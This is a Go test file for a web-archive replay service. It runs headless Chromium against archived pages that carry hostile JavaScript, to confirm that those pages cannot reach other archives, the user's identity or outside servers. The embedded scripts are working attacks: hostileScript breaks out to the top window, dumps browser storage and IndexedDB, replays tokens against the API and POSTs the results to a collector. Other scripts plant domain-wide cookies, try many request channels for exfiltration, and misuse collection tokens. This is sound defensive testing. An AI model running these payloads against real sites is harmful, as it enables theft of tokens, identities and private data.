package api_test

import (
	"bytes"
	"context"
	"encoding/json"
	"io"
	"net/http"
	"net/http/httptest"
	"net/url"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/chromedp/chromedp"

	"github.com/capture-ledger/ledgerctl/pkg/authz"
	"github.com/capture-ledger/ledgerctl/pkg/wacz"
)

// hostilePage is the archived page whose script attacks whoever replays
// it: it escapes the viewer's rewriting to reach the real top window, takes
// what that window's origin keeps (storage, IndexedDB, the tokens in it),
// reads every archive it finds a link to, calls the API with the identity
// it found (or the victim's known name), and reports all of it — into its
// own page, where the test reads it, and to an outside collector.
const hostilePage = "https://hostile.example.test/"

// hostileScript is the attack. COLLECTOR is replaced by the collector's
// address when the archive is made.
const hostileScript = `
(async function () {
  var out = { ran: true, reads: [], api: [] };
  var T = window;
  try { T = Function("return top")(); out.escaped = T !== window; } catch (e) { out.top = "ERR " + e; }
  try { out.origin = String(T.origin); } catch (e) { out.origin = "ERR " + e; }
  try { out.localStorage = JSON.stringify(Object.assign({}, T.localStorage)); } catch (e) { out.localStorage = "ERR " + e; }
  try { out.sessionStorage = JSON.stringify(Object.assign({}, T.sessionStorage)); } catch (e) { out.sessionStorage = "ERR " + e; }
  var dump = "";
  function req(r) { return new Promise(function (ok, no) { r.onsuccess = function () { ok(r.result); }; r.onerror = function () { no(r.error); }; }); }
  try {
    var dbs = await T.indexedDB.databases();
    for (var i = 0; i < dbs.length; i++) {
      var db = await req(T.indexedDB.open(dbs[i].name));
      var names = Array.from(db.objectStoreNames);
      for (var j = 0; j < names.length; j++) {
        try {
          var all = await req(db.transaction(names[j]).objectStore(names[j]).getAll());
          dump += dbs[i].name + "/" + names[j] + ":" + JSON.stringify(all, function (k, v) {
            if (v instanceof Uint8Array) { return new TextDecoder().decode(v); }
            if (v instanceof ArrayBuffer) { return new TextDecoder().decode(new Uint8Array(v)); }
            return v;
          }).slice(0, 300000) + "\n";
        } catch (e) { dump += names[j] + " ERR " + e + "\n"; }
      }
      db.close();
    }
  } catch (e) { dump += "ERR " + e; }
  out.idb = dump;
  // Every archive read the origin knows of, with its token.
  var links = dump.match(/(https?:\/\/[^"\s\\]*|\/[^"\s\\]*)wacz[^"\s\\]*[?&]t=[A-Za-z0-9_.%-]+/g) || [];
  var seen = {};
  for (var k = 0; k < links.length && k < 20; k++) {
    var u = links[k];
    if (seen[u]) { continue; }
    seen[u] = true;
    try {
      var r = await T.fetch(u, { headers: { Range: "bytes=0-1048575" }, cache: "no-store" });
      var body = new TextDecoder("latin1").decode(new Uint8Array(await r.arrayBuffer()));
      out.reads.push(u + " -> " + r.status + " " + body);
    } catch (e) { out.reads.push(u + " -> ERR " + e); }
  }
  // The API, as the identity the origin keeps (else the victim's known name).
  var subject = "alice", orgs = "acme";
  try {
    var ls = T.localStorage;
    for (var n = 0; n < ls.length; n++) {
      var key = ls.key(n), val = ls.getItem(key);
      if (/subject/i.test(key)) { subject = val; }
      if (/org/i.test(key)) { orgs = val; }
    }
  } catch (e) {}
  var port = out.origin.split(":").pop();
  var apis = [out.origin, "http://127.0.0.1:" + port, "http://localhost:" + port];
  for (var a = 0; a < apis.length; a++) {
    try {
      var res = await T.fetch(apis[a] + "/api/archives", { headers: { "X-Capture-ledger-Subject": subject, "X-Capture-ledger-Organizations": orgs }, cache: "no-store" });
      out.api.push(apis[a] + " -> " + res.status + " " + (await res.text()));
    } catch (e) { out.api.push(apis[a] + " -> ERR " + e); }
  }
  var report = JSON.stringify(out);
  try { await T.fetch("COLLECTOR", { method: "POST", mode: "no-cors", body: report }); } catch (e) {}
  document.getElementById("loot").textContent = "LOOT:" + report + ":LOOT";
})();
`

// hostileWACZ is an archive of hostilePage carrying the attack, reporting
// to collector.
func hostileWACZ(t *testing.T, collector string) []byte {
	t.Helper()
	return scriptedWACZ(t, strings.ReplaceAll(hostileScript, "COLLECTOR", collector))
}

// scriptedWACZ is an archive of hostilePage running script, which reports
// into the page's #loot.
func scriptedWACZ(t *testing.T, script string) []byte {
	t.Helper()
	at := time.Date(2026, 11, 30, 10, 0, 0, 0, time.UTC)
	body := `<!doctype html><html><head><meta charset="utf-8"><title>Hostile</title></head>` +
		`<body><h1>A page someone got captured</h1><pre id="loot">waiting</pre>` +
		`<script>` + script + `</script></body></html>`
	c := wacz.Capture{
		Created:  at.Add(time.Second),
		Software: "ledgerctl test",
		Exchanges: []wacz.Exchange{{URL: hostilePage, Date: at, Status: 200, Body: []byte(body),
			RequestHeader: http.Header{"User-Agent": {"ledgerctl-test"}}, Header: http.Header{"Content-Type": {"text/html; charset=utf-8"}}}},
		Pages: []wacz.Page{{URL: hostilePage, Date: at, Title: "Hostile", Text: "A page someone got captured"}},
	}
	var buf bytes.Buffer
	if _, err := wacz.Write(&buf, c); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

// collector is the attacker's server: it keeps whatever is sent to it and
// serves an archive of its own to any origin.
type collector struct {
	mu       sync.Mutex
	received []string
	waczHits int
	wacz     []byte
}

func (c *collector) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	w.Header().Set("Access-Control-Allow-Origin", "*")
	w.Header().Set("Access-Control-Allow-Headers", "*")
	w.Header().Set("Access-Control-Expose-Headers", "Content-Length, Content-Range, Accept-Ranges")
	if r.Method == http.MethodOptions {
		w.WriteHeader(http.StatusNoContent)
		return
	}
	c.mu.Lock()
	defer c.mu.Unlock()
	if strings.HasSuffix(r.URL.Path, ".wacz") {
		c.waczHits++
		http.ServeContent(w, r, "evil.wacz", time.Time{}, bytes.NewReader(c.wacz))
		return
	}
	b, _ := io.ReadAll(io.LimitReader(r.Body, 8<<20))
	c.received = append(c.received, string(b))
}

func (c *collector) snapshot() (received []string, hits int) {
	c.mu.Lock()
	defer c.mu.Unlock()
	return append([]string(nil), c.received...), c.waczHits
}

// mintLink asks the API (POST path, with body) for a viewer link as alice
// of acme.
func (f *replayFixture) mintLink(t *testing.T, path, body string) string {
	t.Helper()
	a := f.do(t, "POST", path, map[string]string{"X-Capture-ledger-Subject": "alice", "X-Capture-ledger-Organizations": "acme"}, body)
	if a.status != http.StatusOK {
		t.Fatalf("POST %s: %d %s", path, a.status, a.body)
	}
	var link struct{ URL string }
	if err := json.Unmarshal(a.body, &link); err != nil {
		t.Fatal(err)
	}
	return link.URL
}

// openInNewTab opens link in a new tab of the browser behind parent and
// waits until the replayed page shows want.
func openInNewTab(t *testing.T, parent context.Context, link, want string) (context.Context, string) {
	t.Helper()
	tab, cancel := chromedp.NewContext(parent)
	t.Cleanup(cancel)
	if err := chromedp.Do(tab, chromedp.Navigate(link)); err != nil {
		t.Fatalf("open %s: %v", link, err)
	}
	text := ""
	wait := func(d time.Duration) error {
		ctx, cancel := context.WithTimeout(tab, d)
		defer cancel()
		return poll(ctx, func() (bool, error) {
			s, err := chromedp.Run(tab, chromedp.Evaluate[string](replayedTextJS))
			text = s
			return err == nil && strings.Contains(s, want), nil
		})
	}
	// ReplayWeb.page installs its service worker on each new origin; under
	// load its first frame can miss the worker's activation and wait for
	// ever. A person reloads; so does the test, once.
	if err := wait(45 * time.Second); err != nil {
		t.Logf("nothing shown after 45 s; reloading %s once", link)
		_ = chromedp.Do(tab, chromedp.Reload())
		err = wait(60 * time.Second)
	}
	if err := wait(time.Second); err != nil {
		diag, derr := chromedp.Run(tab, chromedp.Evaluate[string](`location.href + " | " + (navigator.serviceWorker.controller ? "controlled" : "not controlled") + " | " + (function(){ var r = document.querySelector("replay-web-page"); if (!r || !r.shadowRoot) { return "no shadow"; } var f = r.shadowRoot.querySelector("iframe"); var out = r.shadowRoot.innerHTML.slice(0, 1500); if (f) { out += " | frame " + f.src; try { out += " | " + f.contentDocument.location.href + " | " + f.contentDocument.documentElement.outerHTML.slice(0, 1500); } catch (e) { out += " ERR " + e; } } return out; })()`))
		t.Fatalf("%q never appeared in the viewer at %s (%v); shown: %q; page: %s %v", want, link, err, text, diag, derr)
	}
	return tab, text
}

// TestReplayedPageCannotReachOtherArchivesOrIdentity is the attack of a
// captured page on whoever replays it, in real Chromium: alice (a member
// of acme, with the dev identity the console keeps) opens acme's garden
// archive, then an archive of a hostile page. Its script escapes the
// viewer's rewriting to the real top window and takes what it can. It
// must get nothing of the garden archive (its text, its token, its
// bytes), no identity, and no answer from the API.
func TestReplayedPageCannotReachOtherArchivesOrIdentity(t *testing.T) {
	// Not parallel: the package's browser tests take turns on two cores.
	chromium, viewer := needBrowser(t)
	coll := &collector{}
	cs := httptest.NewServer(coll)
	t.Cleanup(cs.Close)
	f := newReplayFixture(t, replayOptions{content: gardenWACZ(t), sourceURL: archivedPage, second: hostileWACZ(t, cs.URL+"/loot"), viewerDir: viewer})
	garden, hostile := f.ids[0], f.ids[1]

	browser := browserTab(t, chromium, 3*time.Minute, chromedp.Flag("disable-quic", true), chromedp.WindowSize(1280, 900))
	// alice signs in to the console as people do with the dev identity.
	if err := chromedp.Do(browser,
		chromedp.Navigate(f.srv.URL+"/"),
		chromedp.WaitVisible("#subject"),
		chromedp.SendKeys("#subject", "alice"),
		chromedp.SendKeys("#orgs", "acme"),
		chromedp.Click("#who button"),
		chromedp.WaitVisible(`li.archive[data-id="`+garden+`"] button.open`),
	); err != nil {
		t.Fatalf("console as alice: %v", err)
	}
	_, _ = openInNewTab(t, browser, f.mintLink(t, "/api/archives/"+garden+"/replay", `{"page":"`+archivedPage+`"}`), archivedText)
	_, shown := openInNewTab(t, browser, f.mintLink(t, "/api/archives/"+hostile+"/replay", `{"page":"`+hostilePage+`"}`), "LOOT:")
	_, lootJSON, _ := strings.Cut(shown, "LOOT:")
	lootJSON, _, _ = strings.Cut(lootJSON, ":LOOT")
	var loot struct {
		Ran            bool
		Escaped        bool
		Origin         string
		LocalStorage   string
		SessionStorage string
		IDB            string
		Reads, API     []string
	}
	if err := json.Unmarshal([]byte(lootJSON), &loot); err != nil {
		t.Fatalf("the hostile page's report: %v: %q", err, lootJSON)
	}
	if !loot.Ran || !loot.Escaped {
		t.Fatalf("the attack did not run as written (ran %v, escaped to top %v)", loot.Ran, loot.Escaped)
	}
	t.Logf("the hostile page ran on %s; it found %d archive links", loot.Origin, len(loot.Reads))
	all := strings.Join([]string{loot.LocalStorage, loot.SessionStorage, loot.IDB, strings.Join(loot.Reads, "\n"), strings.Join(loot.API, "\n")}, "\n")
	for _, secret := range []string{archivedText, archivedText2, garden} {
		if strings.Contains(all, secret) {
			t.Errorf("the hostile page got %q of another archive", secret)
		}
	}
	for _, r := range loot.Reads {
		if strings.Contains(r, garden) || strings.Contains(r, "-> 200") && !strings.Contains(r, hostile) {
			t.Errorf("the hostile page read another archive: %.200s", r)
		}
	}
	if strings.Contains(loot.LocalStorage, "alice") || strings.Contains(loot.SessionStorage, "alice") {
		t.Errorf("the hostile page found an identity in its window's storage: %s %s", loot.LocalStorage, loot.SessionStorage)
	}
	for _, a := range loot.API {
		if strings.Contains(a, "-> 200") || strings.Contains(a, garden) || strings.Contains(a, "alice") {
			t.Errorf("the API answered the hostile page: %.300s", a)
		}
	}
	received, _ := coll.snapshot()
	for _, r := range received {
		if strings.Contains(r, archivedText) || strings.Contains(r, garden) {
			t.Errorf("the collector received another archive's data: %.300s", r)
		}
	}
}

// TestReplayOriginLoadsNoForeignArchive: once a browser has opened an
// archive, its viewer's origin (page and service worker, at every path
// they answer) is asked to load an archive from another server. Nothing
// of it may load: no request reaches that server and its text never shows.
func TestReplayOriginLoadsNoForeignArchive(t *testing.T) {
	// Not parallel: the package's browser tests take turns on two cores.
	chromium, viewer := needBrowser(t)
	const evilText = "This archive came from somewhere else entirely"
	coll := &collector{}
	at := time.Date(2026, 11, 30, 10, 0, 0, 0, time.UTC)
	evilPage := "https://evil.example.test/"
	var buf bytes.Buffer
	if _, err := wacz.Write(&buf, wacz.Capture{Created: at, Software: "evil",
		Exchanges: []wacz.Exchange{{URL: evilPage, Date: at, Status: 200,
			Body:          []byte(`<!doctype html><html><body><p>` + evilText + `</p></body></html>`),
			RequestHeader: http.Header{}, Header: http.Header{"Content-Type": {"text/html"}}}},
		Pages: []wacz.Page{{URL: evilPage, Date: at, Title: "Evil", Text: evilText}},
	}); err != nil {
		t.Fatal(err)
	}
	coll.wacz = buf.Bytes()
	cs := httptest.NewServer(coll)
	t.Cleanup(cs.Close)
	f := newReplayFixture(t, replayOptions{content: gardenWACZ(t), sourceURL: archivedPage, viewerDir: viewer})

	browser := browserTab(t, chromium, 3*time.Minute, chromedp.Flag("disable-quic", true), chromedp.WindowSize(1280, 900))
	if err := chromedp.Do(browser, chromedp.Navigate("about:blank")); err != nil {
		t.Fatal(err)
	}
	link := f.mintLink(t, "/api/archives/"+f.ids[0]+"/replay", `{"page":"`+archivedPage+`"}`)
	_, _ = openInNewTab(t, browser, link, archivedText)
	u, err := url.Parse(link)
	if err != nil {
		t.Fatal(err)
	}
	origin := u.Scheme + "://" + u.Host
	evil := url.QueryEscape(cs.URL + "/evil.wacz")
	// The viewer, the worker's scope (where ReplayWeb.page's worker serves
	// its own UI once registered), and the paths the viewer had when it
	// lived on the API's origin.
	paths := []string{"/", "/sw/", "/replay/", "/replay/sw/"}
	for _, p := range paths {
		for _, form := range []string{"?source=" + evil + "&embed=default#view=pages&url=page:0", "?source=" + evil + "#view=pages&url=" + url.QueryEscape(evilPage)} {
			tab, cancel := chromedp.NewContext(browser)
			_ = chromedp.Do(tab, chromedp.Navigate(origin+p+form))
			deadline := time.Now().Add(3 * time.Second)
			for time.Now().Before(deadline) {
				s, _ := chromedp.Run(tab, chromedp.Evaluate[string](replayedTextJS))
				if strings.Contains(s, evilText) {
					t.Errorf("%s%s shows the foreign archive", p, form)
					break
				}
				if _, hits := coll.snapshot(); hits > 0 {
					break
				}
				time.Sleep(250 * time.Millisecond)
			}
			cancel()
			if _, hits := coll.snapshot(); hits > 0 {
				t.Fatalf("%s%s on the viewer's origin fetched the foreign archive (%d reads)", p, form, hits)
			}
		}
	}
}

// cookieScript plants cookies for every replay origin: a cookie whose
// Domain is the replay domain (the parent of the session's own name) is
// sent to, and readable by, every session's origin — the viewer, and the
// archived pages ReplayWeb.page shows there. It sets them from the real
// top window and from the archived page itself (through ReplayWeb.page's
// rewriting), at the root and where archived pages are served, and
// reports what its own origin then holds.
const cookieScript = `
(function () {
  var T = Function("return top")();
  var parent = T.location.hostname.split(".").slice(1).join(".");
  var tail = "; Domain=" + parent + "; Max-Age=86400";
  T.document.cookie = "planted-top=from-the-hostile-archive; Path=/" + tail;
  T.document.cookie = "planted-sw=from-the-hostile-archive; Path=/sw/" + tail;
  T.document.cookie = "planted-partitioned=from-the-hostile-archive; Path=/; Secure; SameSite=None; Partitioned" + tail;
  document.cookie = "planted-frame=from-the-hostile-archive; Path=/" + tail;
  document.getElementById("loot").textContent = "LOOT:" + JSON.stringify({ top: T.document.cookie, frame: document.cookie }) + ":LOOT";
})();
`

// TestReplaySessionsShareNoCookies: every session has an origin of its
// own, but all of them are names under one domain, and a page may set a
// cookie for that whole domain. A captured page replayed by alice plants
// such cookies; the archive she opens next, in its own session, must not
// receive them — neither its viewer nor its archived pages, whose scripts
// would read the hostile archive's values as their own site's cookies.
func TestReplaySessionsShareNoCookies(t *testing.T) {
	// Not parallel: the package's browser tests take turns on two cores.
	_, viewer := needBrowser(t)
	f := newReplayFixture(t, replayOptions{content: gardenWACZ(t), sourceURL: archivedPage, second: scriptedWACZ(t, cookieScript), viewerDir: viewer})
	garden, hostile := f.ids[0], f.ids[1]
	browser := browserTab(t, "", 3*time.Minute, chromedp.Flag("disable-quic", true), chromedp.WindowSize(1280, 900))
	if err := chromedp.Do(browser, chromedp.Navigate("about:blank")); err != nil {
		t.Fatal(err)
	}
	_, shown := openInNewTab(t, browser, f.mintLink(t, "/api/archives/"+hostile+"/replay", `{"page":"`+hostilePage+`"}`), "LOOT:")
	// The attack ran: its own origin holds every cookie it set.
	for _, c := range []string{"planted-top=", "planted-sw=", "planted-partitioned=", "planted-frame="} {
		if !strings.Contains(shown, c) {
			t.Fatalf("the hostile page could not plant %s (the attack did not run as written): %s", c, shown)
		}
	}
	tab, _ := openInNewTab(t, browser, f.mintLink(t, "/api/archives/"+garden+"/replay", `{"page":"`+archivedPage+`"}`), archivedText)
	// Its viewer at /, its worker's scope and the archived page, as their
	// scripts read cookies.
	probe := `document.cookie + " | " + ` + strings.TrimSuffix(replayedTextJS, `(function (d) { return d.body.innerText; })`) + `(function (d) { return d.cookie; })`
	seen, err := chromedp.Run(tab, chromedp.Evaluate[string](probe))
	if err != nil {
		t.Fatal(err)
	}
	if strings.Contains(seen, "planted") {
		t.Errorf("another session's pages read the hostile archive's cookies: %q", seen)
	}
}

// leakScript tries every way a page has to make the browser send a request
// to another server — subresources, script, styles, fonts, media, frames,
// workers, beacons, pings, sockets, forms — once from the archived page
// itself (as ReplayWeb.page serves it) and once from the real top window
// it escapes to. OTHER is the other server. Top-level navigation is left
// out: a page may always navigate its tab away.
const leakScript = `
(function () {
  var T = Function("return top")();
  function all(W, tag) {
    var D = W.document, u = function (what) { return "OTHER/" + what + "-" + tag; };
    function el(name, attrs) { var e = D.createElement(name); for (var k in attrs) { e.setAttribute(k, attrs[k]); } D.body.appendChild(e); return e; }
    function t(f) { try { f(); } catch (e) {} }
    t(function () { el("img", { src: u("img") }); });
    t(function () { el("script", { src: u("script") }); });
    t(function () { el("link", { rel: "stylesheet", href: u("css") }); });
    t(function () { el("link", { rel: "prefetch", href: u("prefetch") }); });
    t(function () { el("link", { rel: "preload", as: "fetch", href: u("preload") }); });
    t(function () { el("style", {}).textContent = "@font-face { font-family: x; src: url(" + u("font") + "); } body { font-family: x; background: url(" + u("bg") + "); }"; });
    t(function () { el("video", { src: u("video") }); });
    t(function () { el("iframe", { src: u("iframe") }); });
    t(function () { el("object", { data: u("object") }); });
    t(function () { W.fetch(u("fetch"), { mode: "no-cors" }).catch(function () {}); });
    t(function () { var x = new W.XMLHttpRequest(); x.open("GET", u("xhr")); x.send(); });
    t(function () { W.navigator.sendBeacon(u("beacon"), "x"); });
    t(function () { new W.EventSource(u("events")); });
    t(function () { new W.WebSocket(u("ws").replace(/^http/, "ws")); });
    t(function () { new W.Worker(u("worker")); });
    t(function () { W.eval("import(" + JSON.stringify(u("module")) + ")").catch(function () {}); });
    t(function () { var a = el("a", { href: "#", ping: u("ping") }); a.click(); });
    t(function () {
      el("iframe", { name: "sink-" + tag, style: "display:none" });
      var f = el("form", { action: u("form"), method: "post", target: "sink-" + tag });
      f.submit();
    });
  }
  all(window, "frame");
  all(T, "top");
  setTimeout(function () { document.getElementById("loot").textContent = "LOOT:sent:LOOT"; }, 1500);
})();
`

// TestReplayedPageReachesNoOtherServer: a replayed page (whether from the
// archived page or from the top window it escapes to) makes the browser
// send nothing to another server — no beacon that says who replays what,
// no Referer or address carrying the session's token — whatever kind of
// request it tries (leakScript). Navigating the tab away is the one thing
// it may do.
func TestReplayedPageReachesNoOtherServer(t *testing.T) {
	// Not parallel: the package's browser tests take turns on two cores.
	_, viewer := needBrowser(t)
	var mu sync.Mutex
	var got []string
	other := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		got = append(got, r.Method+" "+r.URL.Path+" Referer: "+r.Referer())
		mu.Unlock()
		w.Header().Set("Access-Control-Allow-Origin", "*")
	}))
	t.Cleanup(other.Close)
	f := newReplayFixture(t, replayOptions{content: scriptedWACZ(t, strings.ReplaceAll(leakScript, "OTHER", other.URL)), sourceURL: hostilePage, viewerDir: viewer})
	browser := browserTab(t, "", 3*time.Minute, chromedp.Flag("disable-quic", true), chromedp.WindowSize(1280, 900))
	if err := chromedp.Do(browser, chromedp.Navigate("about:blank")); err != nil {
		t.Fatal(err)
	}
	_, _ = openInNewTab(t, browser, f.mintLink(t, "/api/archives/"+f.ids[0]+"/replay", `{"page":"`+hostilePage+`"}`), "LOOT:sent")
	time.Sleep(time.Second)
	mu.Lock()
	defer mu.Unlock()
	for _, r := range got {
		t.Errorf("the replayed page reached another server: %s", r)
	}
}

// collectionScript is the attack of a page replayed in a collection on the
// collection's other archives: it takes the collection's token from its
// top window's address, the ids of the archives the collection was made
// of from that token, and the read tokens from the collection's listing;
// reads what the listing lists, and tries each token on each archive's
// read route.
const collectionScript = `
(async function () {
  var T = Function("return top")(), out = { listed: [], reads: [] };
  function read(path) {
    return T.fetch(path, { headers: { Range: "bytes=0-3" }, cache: "no-store" }).then(function (r) { return path.split("?")[0] + " -> " + r.status; });
  }
  try {
    var src = new URL(new URL(T.location.href).searchParams.get("source"));
    var tokens = [src.searchParams.get("t")];
    var ids = JSON.parse(atob(tokens[0].split(".")[0].replace(/-/g, "+").replace(/_/g, "/"))).x;
    var lr = await T.fetch(src.pathname + src.search, { cache: "no-store" });
    out.listing = lr.status + " " + (await lr.text());
    var resources = JSON.parse(out.listing.slice(4)).resources;
    for (var n = 0; n < resources.length; n++) {
      tokens.push(new URL(resources[n].path, T.location.href).searchParams.get("t"));
      out.listed.push(await read(resources[n].path));
    }
    for (var k = 0; k < ids.length; k++) {
      for (var i = 0; i < tokens.length; i++) {
        var q = "?t=" + encodeURIComponent(tokens[i]);
        out.reads.push(await read("/wacz/" + ids[k] + ".wacz" + q));
        out.reads.push(await read("/wacz/" + ids[k].toUpperCase() + ".wacz" + q));
      }
    }
  } catch (e) { out.err = "" + e; }
  document.getElementById("loot").textContent = "LOOT:" + JSON.stringify(out) + ":LOOT";
})();
`

// TestCollectionPageCannotReadWhatItsPersonLost: alice replays a chosen
// set of two archives, one of which acme (and so alice) loses before she
// opens it. The other, hostile, page of the collection — with the
// collection's token, the ids in it and every read token the listing
// hands out — must not see the lost archive listed, nor read it.
func TestCollectionPageCannotReadWhatItsPersonLost(t *testing.T) {
	// Not parallel: the package's browser tests take turns on two cores.
	_, viewer := needBrowser(t)
	f := newReplayFixture(t, replayOptions{content: gardenWACZ(t), sourceURL: archivedPage, viewerDir: viewer, cache: -1, second: scriptedWACZ(t, collectionScript)})
	garden, hostile := f.ids[0], f.ids[1]
	link := f.mintLink(t, "/api/replay", `{"archives":["`+hostile+`","`+garden+`"]}`)
	// acme loses the garden archive after the link was made.
	if err := f.env.FGA.Write(context.Background(), nil, []authz.Tuple{{User: "organization:acme", Relation: "parent", Object: "capture_job:" + f.tasks[0]}}); err != nil {
		t.Fatal(err)
	}
	browser := browserTab(t, "", 3*time.Minute, chromedp.Flag("disable-quic", true), chromedp.WindowSize(1280, 900))
	if err := chromedp.Do(browser, chromedp.Navigate("about:blank")); err != nil {
		t.Fatal(err)
	}
	_, shown := openInNewTab(t, browser, link, "LOOT:")
	_, lootJSON, _ := strings.Cut(shown, "LOOT:")
	lootJSON, _, _ = strings.Cut(lootJSON, ":LOOT")
	var loot struct {
		Listing, Err  string
		Listed, Reads []string
	}
	if err := json.Unmarshal([]byte(lootJSON), &loot); err != nil {
		t.Fatalf("the hostile page's report: %v: %q", err, lootJSON)
	}
	// The attack ran, with tokens that read: its own archive's.
	if loot.Err != "" || !slices.Contains(loot.Reads, "/wacz/"+hostile+".wacz -> 206") {
		t.Fatalf("the attack did not run as written: %+v", loot)
	}
	if strings.Contains(loot.Listing, garden) {
		t.Errorf("the listing names the lost archive: %s", loot.Listing)
	}
	for _, r := range append(loot.Listed, loot.Reads...) {
		if strings.Contains(strings.ToLower(r), garden) && !strings.HasSuffix(r, "-> 404") {
			t.Errorf("the hostile page read the lost archive: %s", r)
		}
	}
}
